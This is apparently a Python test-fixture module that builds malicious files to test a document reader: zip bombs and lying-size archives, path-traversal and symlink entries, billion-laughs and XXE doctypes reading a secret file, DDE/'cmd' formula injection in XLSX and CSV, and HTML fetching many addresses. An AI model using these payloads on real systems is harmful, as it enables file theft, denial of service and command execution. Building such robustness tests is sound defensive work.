"""Files that are made to harm what reads them: full-sized under ``make torture``, samples of them otherwise.

Each maker writes one file. What names an address or another file names `Lab.url` and `Lab.secret`, so that a test can tell
whether anything was asked for, or read.
"""

from __future__ import annotations

import base64
import io
import json
import random
import re
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO

from conftest import TORTURE

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SAID = "The ferry to Orrin leaves at nine."
"""Stands in a file that may be read."""
KB, MB = 1024, 1024 * 1024


@dataclass(frozen=True)
class Lab:
    """Where the files are made, and what they try to reach."""

    folder: Path
    url: str
    secret: Path
    """A file whose content must show up nowhere."""


Maker = Callable[[Lab, Path], None]
MAKERS: dict[str, tuple[str, Maker]] = {}
"""What writes each file, by the file's name, with the reason for which it is left out; empty where it is read."""


def hostile(name: str, reason: str = "") -> Callable[[Maker], Maker]:
    def keep(maker: Maker) -> Maker:
        assert name not in MAKERS
        MAKERS[name] = (reason, maker)
        return maker

    return keep


def sized(full: int, sample: int) -> int:
    return full if TORTURE else sample


def repeated(stream: BinaryIO, piece: bytes, size: int) -> None:
    """Write a piece until so many bytes are written."""
    many = piece * max(1, MB // len(piece))
    stream.writelines(many for _ in range(size // len(many)))
    stream.write(many[: size % len(many)])


def write(path: Path, *pieces: bytes | tuple[bytes, int]) -> None:
    """Write bytes, and pieces that are repeated up to so many bytes."""
    with path.open("wb") as stream:
        for piece in pieces:
            if isinstance(piece, bytes):
                stream.write(piece)
            else:
                repeated(stream, *piece)


# Archives


def zipped(path: Path, entries: Iterable[tuple[str | zipfile.ZipInfo, str | bytes]], method: int = zipfile.ZIP_DEFLATED) -> None:  # fmt: skip
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in entries:
            archive.writestr(name, data)


def document_xml(body: str, before: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document {W}><w:body>{body}</w:body></w:document>'
    )


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_entries(
    document: str | bytes, **others: str | bytes
) -> list[tuple[str | zipfile.ZipInfo, str | bytes]]:
    names = {"core": "docProps/core.xml", "styles": "word/styles.xml", "footnotes": "word/footnotes.xml"}
    return [("word/document.xml", document), *((names[name], data) for name, data in others.items())]


def sheet_xml(rows: str, before: str = "", after: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet {S}>{after}<sheetData>{rows}</sheetData></worksheet>'


def xlsx_entries(sheet: str | bytes, strings: str | bytes = "", workbook: str | bytes = "") -> list[tuple[str | zipfile.ZipInfo, str | bytes]]:  # fmt: skip
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    base = "http://schemas.openxmlformats.org"
    relation = f"{base}/officeDocument/2006/relationships"
    shared = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/>'
    types = (
        f'<Types xmlns="{base}/package/2006/content-types"><Default Extension="rels" ContentType="'
        'application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
        f"{shared if strings else ''}</Types>"
    )
    entries: list[tuple[str | zipfile.ZipInfo, str | bytes]] = [
        ("[Content_Types].xml", types),
        (
            "_rels/.rels",
            (
                f'<Relationships xmlns="{base}/package/2006/relationships"><Relationship Id="rId1" '
                f'Type="{relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ),
        ),
        (
            "xl/workbook.xml",
            workbook
            or f'<workbook {S} xmlns:r="{relation}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            (
                f'<Relationships xmlns="{base}/package/2006/relationships"><Relationship Id="rId1" '
                f'Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ),
        ),
        ("xl/worksheets/sheet1.xml", sheet),
    ]
    return [*entries, ("xl/sharedStrings.xml", strings)] if strings else entries


def cell(text: str, place: str = "A1") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


ROWS = f'<row r="1">{cell("Place")}{cell("Hour", "B1")}</row><row r="2">{cell("Orrin", "A2")}{cell("nine", "B2")}</row>'


def strings_xml(strings: Iterable[str], before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<sst {S}>{"".join(f"<si><t>{text}</t></si>" for text in strings)}</sst>'


def epub_entries(chapter: str | bytes, package: str | bytes = "", name: str = "a.xhtml", path: str = "p.opf") -> list[tuple[str | zipfile.ZipInfo, str | bytes]]:  # fmt: skip
    return [
        ("mimetype", "application/epub+zip"),
        (
            "META-INF/container.xml",
            (
                '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
                f'<rootfile full-path="{path}"/></rootfiles></container>'
            ),
        ),
        (path.lstrip("/"), package or package_xml(name)),
        (name, chapter),
    ]


def package_xml(href: str, before: str = "", title: str = "Ferries") -> str:
    return (
        f'<?xml version="1.0"?>{before}<package xmlns="http://www.idpf.org/2007/opf"><metadata '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title></metadata><manifest>'
        f'<item id="a" href="{href}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
    )


def xhtml(body: str, before: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{before}<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'
    )


ARCHIVES: dict[str, Callable[[str], list[tuple[str | zipfile.ZipInfo, str | bytes]]]] = {
    "docx": lambda text: docx_entries(document_xml(paragraph(text))),
    "xlsx": lambda text: xlsx_entries(
        sheet_xml(
            f'<row r="1">{cell("A")}{cell("B", "B1")}</row><row r="2">{cell(text, "A2")}{cell("x", "B2")}</row>'
        )
    ),
    "epub": lambda text: epub_entries(xhtml(f"<p>{text}</p>")),
}
"""The entries of a whole file of each kind that says a text."""
_LARGE = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "epub": "a.xhtml"}


def lie(path: Path, name: str, size: int) -> None:
    """Make an archive say that an entry holds no more than so many bytes."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive, archive.open(name) as entry:
        check = zlib.crc32(entry.read(size))
    for mark, length_at, name_at in ((b"PK\1\2", 24, 46), (b"PK\3\4", 22, 30)):
        at = data.find(mark)
        while at >= 0:
            if data[at + name_at : at + name_at + len(name)] == name.encode():
                data[at + length_at : at + length_at + 4] = struct.pack("<I", size)
                data[at + length_at - 8 : at + length_at - 4] = struct.pack("<I", check)
            at = data.find(mark, at + 4)
    path.write_bytes(data)


def make_archives(kind: str) -> None:
    """Make known what is hostile in every kind of archive alike."""
    entries, large = ARCHIVES[kind], _LARGE[kind]

    @hostile(f"lying_sizes.{kind}", "" if kind == "epub" else "damaged")
    def lying(lab: Lab, path: Path) -> None:
        zipped(path, entries("a " * sized(400 * MB, 20 * MB)))
        lie(path, large, 1000)

    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):

        @hostile(f"lying_{name}.{kind}", "damaged")
        def lying_otherwise(lab: Lab, path: Path, method: int = method) -> None:
            zipped(path, entries("a" * sized(1000 * MB, 20 * MB)), method)
            lie(path, large, 1000)

    @hostile(f"unpacks_large.{kind}", "too_large")
    def unpacks_large(lab: Lab, path: Path) -> None:
        zipped(path, entries("a " * sized(200 * MB, 135 * MB)))

    @hostile(f"nested_archives.{kind}")
    def nested(lab: Lab, path: Path) -> None:
        inner = b"\0" * (16 * MB)
        for _ in range(5):
            packed = io.BytesIO()
            with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
                for number in range(16):
                    archive.writestr(f"{number}.zip", inner)
            inner = packed.getvalue()
        zipped(path, [*entries(SAID), ("more.zip", inner)])

    @hostile(f"100000_entries.{kind}", "too_large")
    def many(lab: Lab, path: Path) -> None:
        zipped(
            path,
            [*entries(SAID), *((f"e{number}", b"") for number in range(sized(100_000, 25_000)))],
            zipfile.ZIP_STORED,
        )

    @hostile(f"millions_of_entries.{kind}", "too_large")
    def millions(lab: Lab, path: Path) -> None:
        count = sized(5_000_000, 30_000)
        entry = (
            struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
            + b"a"
        )
        size = len(entry) * count
        end64 = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, 0)
        locator = struct.pack("<4sLQL", b"PK\6\7", 0, size, 1)
        end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
        write(path, (entry, size), end64, locator, end)

    @hostile(f"overlapping_entries.{kind}", "too_large")
    def overlapping(lab: Lab, path: Path) -> None:
        """After David Fifield: many entries of the list share the bytes of one."""
        packed = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = packed.compress(b"a" * (16 * MB)) + packed.flush()
        check = zlib.crc32(b"a" * (16 * MB))
        local = (
            struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, check, len(data), 16 * MB, 1, 0)
            + b"a"
            + data
        )
        listed = b"".join(
            struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 8, 0, 33, check, len(data), 16 * MB, 5, 0, 0, 0, 0, 0, 0)
            + f"{number:05}".encode()
            for number in range(10_000)
        )  # fmt: skip
        end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 10_000, 10_000, len(listed), len(local), 0)
        path.write_bytes(local + listed + end)

    @hostile(f"evil_names.{kind}")
    def evil_names(lab: Lab, path: Path) -> None:
        link = zipfile.ZipInfo("link.xml")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        names = ["../../evil", "/evil", str(lab.folder / "evil"), "..\\..\\evil", "C:\\evil", "a/../../evil", "~/evil",
                 "evil\udcff", "e" * 60_000, "con", "evil/", "./evil", "//evil", ".."]  # fmt: skip
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name in names:
                archive.writestr(name.encode("utf-8", "replace").decode(), "evil")
            archive.writestr(link, str(lab.secret))
            for entry, data in entries(SAID):
                archive.writestr(entry, data)

    @hostile(f"name_with_nul.{kind}")
    def nul(lab: Lab, path: Path) -> None:
        zipped(path, [*entries(SAID), ("evilXname", "evil")])
        path.write_bytes(path.read_bytes().replace(b"evilXname", b"evil\0name"))

    @hostile(f"name_no_text.{kind}", "damaged")
    def no_text(lab: Lab, path: Path) -> None:
        zipped(path, [*entries(SAID), ("evilÄname", "evil")])
        path.write_bytes(path.read_bytes().replace("evilÄname".encode(), b"evil\xed\xb3name"))

    @hostile(f"duplicate_names.{kind}")
    def duplicates(lab: Lab, path: Path) -> None:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zipped(path, [*entries("The first of its name."), *entries(SAID)])

    @hostile(f"link_in_its_place.{kind}", "" if kind == "epub" else "damaged")
    def link_in_place(lab: Lab, path: Path) -> None:
        link = zipfile.ZipInfo(large)
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        zipped(
            path, [(link, str(lab.secret)) if name == large else (name, data) for name, data in entries(SAID)]
        )


for _kind in ARCHIVES:
    make_archives(_kind)


# XML


def laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{entities}]>'


def blow_up(size: int = 100_000) -> str:
    return f'<!DOCTYPE x [<!ENTITY q "{"lol " * (size // 4)}">]>'


def external(lab: Lab) -> str:
    return (
        f'<!DOCTYPE x SYSTEM "{lab.url}/x.dtd" [<!ENTITY f SYSTEM "file://{lab.secret}"><!ENTITY h SYSTEM "{lab.url}/entity">'
        f'<!ENTITY % p SYSTEM "{lab.url}/parameter"> %p;]>'
    )


_DOCTYPES: dict[str, Callable[[Lab], tuple[str, str]]] = {
    "laughs": lambda lab: (laughs(), "&l11;"),
    "blow_up": lambda lab: (blow_up(), "&q;" * sized(100_000, 5_000)),
    "external": lambda lab: (external(lab), "&f; &h;"),
}
"""What stands before the root, and in the text."""

for _name, _doctype in _DOCTYPES.items():

    @hostile(f"{_name}.docx", "damaged")
    def _docx(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        zipped(path, docx_entries(document_xml(paragraph(SAID + text), before)))

    @hostile(f"{_name}_styles.docx", "damaged")
    def _docx_styles(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        styles = (
            f'<?xml version="1.0"?>{before}<w:styles {W}><w:style w:styleId="a">{text}</w:style></w:styles>'
        )
        zipped(path, docx_entries(document_xml(paragraph(SAID)), styles=styles))

    @hostile(f"{_name}_attribute.docx", "damaged")
    def _docx_attribute(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        body = f'<w:p><w:pPr><w:pStyle w:val="{text.replace("&f; &h;", "")}"/></w:pPr><w:r><w:t>{SAID}</w:t></w:r></w:p>'
        zipped(path, docx_entries(document_xml(body, before)))

    @hostile(f"{_name}_sheet.xlsx", "damaged")
    def _xlsx(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        rows = f'<row r="1">{cell("A")}{cell("B", "B1")}</row><row r="2">{cell(text, "A2")}</row>'
        zipped(path, xlsx_entries(sheet_xml(rows, before)))

    @hostile(f"{_name}_late_sheet.xlsx", "damaged")
    def _xlsx_late(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        rows = f'<row r="1">{cell("A")}{cell("B", "B1")}</row><row r="2">{cell(text, "A2")}</row>'
        zipped(path, xlsx_entries(sheet_xml(rows, f"<!-- {'x' * (1100 * KB)} -->{before}")))

    @hostile(f"{_name}_utf16_strings.xlsx", "damaged")
    def _xlsx_utf16(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        strings = strings_xml([text], before).replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")
        rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
        zipped(path, xlsx_entries(sheet_xml(rows), strings))

    @hostile(f"{_name}_ebcdic_workbook.xlsx", "damaged")
    def _xlsx_ebcdic(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        declared = b'<?xml version="1.0" encoding="cp037"?>'
        zipped(path, xlsx_entries(declared + f"{before}<worksheet {S}>{text}</worksheet>".encode("cp037")))

    @hostile(f"{_name}_package.epub", "" if _name == "external" else "damaged")
    def _epub_package(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        zipped(path, epub_entries(xhtml(f"<p>{SAID}</p>"), package_xml("a.xhtml", before, text)))

    @hostile(f"{_name}_chapter.epub")
    def _epub_chapter(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        zipped(path, epub_entries(xhtml(f"<p>{SAID} {text}</p>", before)))

    @hostile(f"{_name}.xhtml")
    def _xhtml(lab: Lab, path: Path, doctype: Callable[[Lab], tuple[str, str]] = _doctype) -> None:
        before, text = doctype(lab)
        path.write_text(xhtml(f"<p>{SAID} {text}</p>", before))


@hostile("one_large_part.docx", "too_large")
def one_large_part(lab: Lab, path: Path) -> None:
    zipped(path, docx_entries(document_xml(paragraph("a " * (40 * MB // 2)))))


@hostile("largest_part.docx", "damaged" if TORTURE else "")
def largest_part(lab: Lab, path: Path) -> None:
    zipped(path, docx_entries(document_xml(paragraph("ab " * (sized(31, 4) * MB // 3)))))


@hostile("many_paragraphs.docx", "too_large" if TORTURE else "")
def many_paragraphs(lab: Lab, path: Path) -> None:
    zipped(path, docx_entries(document_xml(paragraph("a") * sized(400_000, 5_000))))


@hostile("as_many_paragraphs_as_are_read.docx")
def most_paragraphs(lab: Lab, path: Path) -> None:
    zipped(path, docx_entries(document_xml(paragraph("a") * sized(133_000, 5_000))))


@hostile("deep.docx", "too_large" if TORTURE else "damaged")
def deep_docx(lab: Lab, path: Path) -> None:
    deep = sized(1_000_000, 100_000)
    zipped(path, docx_entries(document_xml("<w:x>" * deep + "</w:x>" * deep)))


@hostile("deep.xlsx", "empty")
def deep_xlsx(lab: Lab, path: Path) -> None:
    deep = sized(1_000_000, 100_000)
    zipped(path, xlsx_entries(sheet_xml("<x>" * deep + "</x>" * deep)))


@hostile("deep_workbook.xlsx", "too_large" if TORTURE else "damaged")
def deep_workbook(lab: Lab, path: Path) -> None:
    deep = sized(1_000_000, 100_000)
    zipped(
        path,
        xlsx_entries(sheet_xml(ROWS), workbook=f"<workbook {S}>{'<x>' * deep}{'</x>' * deep}</workbook>"),
    )


@hostile("deep_package.epub", "damaged")
def deep_package(lab: Lab, path: Path) -> None:
    deep = sized(1_000_000, 100_000)
    package = package_xml("a.xhtml").replace("<metadata", "<x>" * deep + "</x>" * deep + "<metadata")
    zipped(path, epub_entries(xhtml(f"<p>{SAID}</p>"), package))


@hostile("deep_chapter.epub", "too_large")
def deep_chapter(lab: Lab, path: Path) -> None:
    deep = sized(900_000, 100_000)
    zipped(path, epub_entries(xhtml("<b>" * deep)))


@hostile("path_out_of_the_book.epub", "damaged")
def path_out(lab: Lab, path: Path) -> None:
    zipped(path, [*epub_entries(xhtml(f"<p>{SAID}</p>"), package_xml(f"../../../../../../{lab.secret}")),
                  (str(lab.secret).lstrip("/"), xhtml(f"<p>{SAID}</p>"))])  # fmt: skip


@hostile("file_in_its_spine.epub", "damaged")
def file_in_spine(lab: Lab, path: Path) -> None:
    zipped(path, epub_entries(xhtml(f"<p>{SAID}</p>"), package_xml(f"file://{lab.secret}")))


@hostile("address_in_its_spine.epub", "damaged")
def address_in_spine(lab: Lab, path: Path) -> None:
    zipped(path, epub_entries(xhtml(f"<p>{SAID}</p>"), package_xml(f"{lab.url}/a.xhtml")))


@hostile("remote_parts.docx")
def remote_parts(lab: Lab, path: Path) -> None:
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    named = "".join(
        f'<Relationship Id="r{at}" Type="{relation}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for at, (kind, target, mode) in enumerate(
            [("attachedTemplate", f"{lab.url}/t.dotm", "External"), ("image", f"{lab.url}/i.png", "External"),
             ("styles", f"file://{lab.secret}", "External"), ("numbering", f"../../../../{lab.secret}", "Internal"),
             ("footnotes", f"{lab.url}/f.xml", "Internal")]
        )
    )  # fmt: skip
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{named}</Relationships>'
    field = (
        '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;'
        + str(lab.secret)
        + '&quot;"/><w:r><w:t>'
        + SAID
        + "</w:t></w:r></w:p>"
    )
    zipped(path, [*docx_entries(document_xml(field)), ("word/_rels/document.xml.rels", relations)])


# Workbooks


@hostile("huge_dimension.xlsx")
def huge_dimension(lab: Lab, path: Path) -> None:
    zipped(path, xlsx_entries(sheet_xml(ROWS, after='<dimension ref="A1:XFD1048576"/>')))


@hostile("cells_far_apart.xlsx")
def far_apart(lab: Lab, path: Path) -> None:
    rows = f'<row r="1">{cell("A")}{cell("B", "XFD1")}</row><row r="1048576">{cell("C", "A1048576")}{cell("D", "XFD1048576")}</row>'
    zipped(path, xlsx_entries(sheet_xml(rows)))


@hostile("far_columns.xlsx", "too_large" if TORTURE else "")
def far_columns(lab: Lab, path: Path) -> None:
    rows = "".join(f'<row r="{n}">{cell("C", f"XFD{n}")}</row>' for n in range(1, sized(100_000, 30)))
    zipped(path, xlsx_entries(sheet_xml(rows)))


@hostile("column_past_the_last.xlsx", "damaged")
def past_the_last(lab: Lab, path: Path) -> None:
    zipped(path, xlsx_entries(sheet_xml(f'<row r="1">{cell("A", "ZZZZZZ1")}</row>')))


@hostile("row_number_of_many_digits.xlsx", "damaged")
def many_digits(lab: Lab, path: Path) -> None:
    number = "9" * sized(1_000_000, 10_000)
    zipped(path, xlsx_entries(sheet_xml(f'<row r="{number}">{cell("A", f"A{number}")}</row>')))


@hostile("no_such_string.xlsx", "damaged")
def no_such_string(lab: Lab, path: Path) -> None:
    rows = '<row r="1"><c r="A1" t="s"><v>99999999</v></c><c r="B1" t="s"><v>-7</v></c></row>'
    zipped(path, xlsx_entries(sheet_xml(rows), strings_xml(["a"])))


@hostile("formulas.xlsx")
def formulas(lab: Lab, path: Path) -> None:
    rows = (
        f'<row r="1">{cell("A")}{cell("B", "B1")}</row>'
        f'<row r="2"><c r="A2" t="str"><f>HYPERLINK("{lab.url}/formula")</f><v>click</v></c>{cell("=cmd|&apos;/C calc&apos;!A0", "B2")}</row>'
        f'<row r="3"><c r="A3" t="str"><f>WEBSERVICE("{lab.url}/web")</f><v>7</v></c>{cell(f"=HYPERLINK(&quot;{lab.url}/x&quot;)", "B3")}</row>'
        f'<row r="4">{cell("=DDE(&quot;cmd&quot;;&quot;/C calc&quot;)", "A4")}</row>'
    )
    zipped(path, xlsx_entries(sheet_xml(rows)))


@hostile("formulas.csv")
def csv_formulas(lab: Lab, path: Path) -> None:
    path.write_text(f'a,b\n"=HYPERLINK(""{lab.url}/x"")",=cmd|\'/C calc\'!A0\n@SUM(1+1),+1+1\n')


@hostile("one_string_many_times.xlsx", "too_large")
def one_string(lab: Lab, path: Path) -> None:
    columns = [f"{chr(65 + at // 26)}{chr(65 + at % 26)}" for at in range(26, 626)]
    rows = "".join(
        f'<row r="{n}">{"".join(f"""<c r="{name}{n}" t="s"><v>0</v></c>""" for name in columns)}</row>'
        for n in range(1, sized(3000, 300))
    )
    zipped(path, xlsx_entries(sheet_xml(rows), strings_xml(["word " * (sized(4 * MB, 1 * MB) // 5)])))


@hostile("most_tags_in_the_workbook.xlsx", "too_large")
def most_tags(lab: Lab, path: Path) -> None:
    tags = "<x/>" * sized(11_900_000, 2_100_000)
    zipped(path, xlsx_entries(sheet_xml(ROWS), workbook=f"<workbook {S}>{tags}</workbook>"))


@hostile("most_strings.xlsx", "too_large" if TORTURE else "")
def most_strings(lab: Lab, path: Path) -> None:
    count = sized(5_900_000, 20_000)
    zipped(path, xlsx_entries(sheet_xml(ROWS), f"<sst {S}>{'<si><t/></si>' * count}</sst>"))


@hostile("most_cells.xlsx", "too_large" if TORTURE else "")
def most_cells(lab: Lab, path: Path) -> None:
    rows = "".join(f"<row>{'<c><v>1</v></c>' * 20}</row>" for _ in range(sized(110_000, 500)))
    zipped(path, xlsx_entries(sheet_xml(rows)))


# Pages


def page(body: str, head: str = "") -> str:
    return f"<!DOCTYPE html><html><head><title>Ferries</title>{head}</head><body>{body}</body></html>"


@hostile("asks_for_everything.html")
def asks(lab: Lab, path: Path) -> None:
    url = lab.url
    head = (
        f'<base href="{url}/base/"><link rel="stylesheet" href="{url}/a.css"><link rel="preload" as="script" href="{url}/p">'
        f'<link rel="dns-prefetch" href="{url}"><meta http-equiv="refresh" content="5; url={url}/refresh">'
        f'<style>@import url("{url}/import.css"); body {{ background: url({url}/bg.png) }}</style>'
        f'<script src="{url}/s.js"></script><script>fetch("{url}/fetch")</script><link rel="manifest" href="{url}/m">'
    )
    body = (
        f'<h1>Ferries</h1><p onclick="alert(1)">{SAID}</p><iframe src="{url}/frame"></iframe><img src="{url}/i.png" onerror="alert(1)">'
        f'<object data="{url}/o"><embed src="{url}/e"></object><svg onload="alert(1)"><image href="{url}/svg"/><use '
        f'href="{url}/u#a"/><script href="{url}/ss"/></svg><video src="{url}/v" poster="{url}/vp"></video><audio src="{url}/au">'
        f'</audio><form action="{url}/form"><input type="image" src="{url}/in"></form><a href="javascript:alert(1)">one link</a>'
        f'<a href="data:text/html;base64,PHNjcmlwdD4=">another</a><img src="data:image/png;base64,AAAA"><img srcset="{url}/s 2x">'
        f'<p>&lt;script&gt;alert(2)&lt;/script&gt;</p><iframe srcdoc="<script>alert(3)</script>"></iframe><math href="{url}/ma"></math>'
        f'<template><img src="{url}/t"></template><noscript><img src="{url}/n"></noscript><p>{"The next one is at ten. " * 20}</p>'
    )
    path.write_text(page(body, head))


@hostile("leads_on.html", "no_text")
def leads_on(lab: Lab, path: Path) -> None:
    path.write_text(page(f"<p>{SAID}</p>", f'<meta http-equiv="refresh" content="0; url={lab.url}/refresh">'))


@hostile("nested_tags.html", "too_large")
def nested_tags(lab: Lab, path: Path) -> None:
    write(path, b"<html><body>", (b"<div>", 1 * MB), b"deep", (b"</div>", MB))


@hostile("unclosed_tags.html", "too_large")
def unclosed_tags(lab: Lab, path: Path) -> None:
    write(path, b"<html><body>", (b"<b>x", 4 * 200_000))


@hostile("unclosed_paragraphs.html")
def unclosed_paragraphs(lab: Lab, path: Path) -> None:
    write(path, b"<html><body>", (b"<p>x", 4 * sized(900_000, 30_000)))


@hostile("long_attribute.html")
def long_attribute(lab: Lab, path: Path) -> None:
    write(path, b'<html><body><p class="', (b"nav cookie ", sized(10, 1) * MB), f'">{SAID}</p>'.encode())


@hostile("long_style.html")
def long_style(lab: Lab, path: Path) -> None:
    write(path, b'<html><body><p style="', (b";  display : ", sized(10, 1) * MB), f'">{SAID}</p>'.encode())


@hostile("long_comment.html")
def long_comment(lab: Lab, path: Path) -> None:
    write(path, b"<html><body><!--", (b"<!-- - -- ", sized(9, 1) * MB), f"--><p>{SAID}</p>".encode())


@hostile("tag_without_an_end.xhtml")
def no_end(lab: Lab, path: Path) -> None:
    write(path, f"<html><body><p>{SAID}</p><a ".encode(), (b"x", sized(31 * MB, 2 * MB)))


@hostile("tag_of_quotes.xhtml")
def quotes(lab: Lab, path: Path) -> None:
    write(path, f"<html><body><p>{SAID}</p><a ".encode(), (b'\'"\'""', sized(31 * MB, 2 * MB)))


@hostile("zeros_of_a_character.html")
def zeros(lab: Lab, path: Path) -> None:
    write(path, f"<html><body><p>{SAID}</p><p>&#".encode(), (b"0", sized(31 * MB, 2 * MB)))


@hostile("white_space.html")
def white_space(lab: Lab, path: Path) -> None:
    write(
        path, f"<html><body><p>{SAID}</p><p>".encode(), (b" \n\t\xc2\xa0", sized(31 * MB, 2 * MB)), b"x</p>"
    )


@hostile("breaks.html")
def breaks(lab: Lab, path: Path) -> None:
    write(path, f"<html><body><p>{SAID}</p><p>".encode(), (b"<br> ", 5 * sized(900_000, 30_000)), b"x</p>")


@hostile("empty_code.html")
def empty_code(lab: Lab, path: Path) -> None:
    write(
        path, f"<html><body><p>{SAID}</p><p>".encode(), (b"<tt></tt>", 9 * sized(450_000, 30_000)), b"x</p>"
    )


@hostile("soft_hyphens.html")
def soft_hyphens(lab: Lab, path: Path) -> None:
    write(
        path,
        f"<html><body><p>{SAID}</p><p>".encode(),
        (b"<i>\xc2\xad</i>", 9 * sized(450_000, 30_000)),
        b"x</p>",
    )


@hostile("deep_quotes.html")
def deep_quotes(lab: Lab, path: Path) -> None:
    many = sized(400_000, 2_000)
    write(path, b"<html><body>", (b"<blockquote>", 12 * 1900), (b"<p>x</p>", 8 * many))


@hostile("headings_in_headings.html")
def headings(lab: Lab, path: Path) -> None:
    write(path, b"<html><body>", (b"<h1><div>", 9 * 1000), (b"word ", sized(31 * MB, 1 * MB)))


@hostile("tables_in_tables.html")
def tables(lab: Lab, path: Path) -> None:
    write(path, b"<html><body>", (b"<table><tr><td>a<td>", 20 * 400), (b"word ", sized(8 * MB, 1 * MB)))


@hostile("spans.html")
def spans(lab: Lab, path: Path) -> None:
    row = b"<tr><td rowspan=65000 colspan=65000>a<td rowspan=1000 colspan=1000>b</tr>"
    write(path, b"<html><body><table>", (row, len(row) * sized(200_000, 5_000)))


@hostile("wide_row.html")
def wide_row(lab: Lab, path: Path) -> None:
    row = b"<tr><td>a<td>b</tr>"
    write(
        path,
        b"<html><body><table><tr>",
        (b"<td>a", 5 * sized(20_000, 2_000)),
        b"</tr>",
        (row, len(row) * sized(100_000, 2_000)),
    )


@hostile("definitions.html", "too_large" if TORTURE else "")
def definitions(lab: Lab, path: Path) -> None:
    write(path, b"<html><body><dl>", (b"<dt>a<dd>b<div><dt>c<dd>", 24 * sized(200_000, 1_000)))


@hostile("long_words.html")
def long_words(lab: Lab, path: Path) -> None:
    write(path, b"<html><body><div><p>", (b"a", sized(31 * MB, 2 * MB)), b"</p></div>")


@hostile("much_text_in_few_tags.html")
def few_tags(lab: Lab, path: Path) -> None:
    each = 1500
    text = (
        "<div>"
        + "".join(f"<p>{'a, b. ' * (each // 6)}{n}</p>" for n in range(sized(19_000, 1_000)))
        + "</div>"
    )
    path.write_text(page(text))


@hostile("dates.html")
def dates(lab: Lab, path: Path) -> None:
    write(path, b"<html><body><p>", (b"1/2/20 3-4-2021 &copy; 2020 ", sized(31 * MB, MB)), b"</p>")


@hostile("linked_data.html")
def linked_data(lab: Lab, path: Path) -> None:
    script = '<script type="application/ld+json">' + "[" * 200_000 + "</script>"
    path.write_text(page(f"<p>{SAID}</p>", script * 20))


@hostile("links.html", "too_large" if TORTURE else "")
def links(lab: Lab, path: Path) -> None:
    write(
        path,
        f"<html><body><p>{SAID}</p>".encode(),
